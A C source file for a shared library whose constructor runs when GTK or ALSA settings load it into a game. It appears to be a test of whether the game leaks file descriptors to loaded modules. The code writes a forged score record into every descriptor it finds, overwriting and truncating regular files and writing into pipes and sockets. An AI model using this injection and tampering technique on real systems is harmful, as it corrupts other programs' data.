// SPDX-License-Identifier: GPL-3.0-or-later
// A pupil's own module, as their desktop's settings make GTK or ALSA load it
// into the game: it leaves a mark in the pupil's home that it ran, listing
// the descriptors it found, and writes a forged record into every one of
// them (over the start of a file, or as a message to a pipe or a socket).
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void intrude(void)
{
    static const char forged[] = "32767\r\nIntruso\r\n";
    char mark_path[4096];
    snprintf(mark_path, sizeof mark_path, "%s/intruder-ran", getenv("HOME"));
    const int mark = open(mark_path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    for (int fd = 0; fd < 1024; ++fd) {
        struct stat info;
        if (fd == mark || fstat(fd, &info) != 0)
            continue;
        dprintf(mark, "%d ", fd);
        if (S_ISREG(info.st_mode) && pwrite(fd, forged, sizeof forged - 1, 0) > 0)
            (void)!ftruncate(fd, sizeof forged - 1);
        else if (!S_ISREG(info.st_mode))
            (void)!write(fd, forged, sizeof forged - 1);
    }
    close(mark);
}
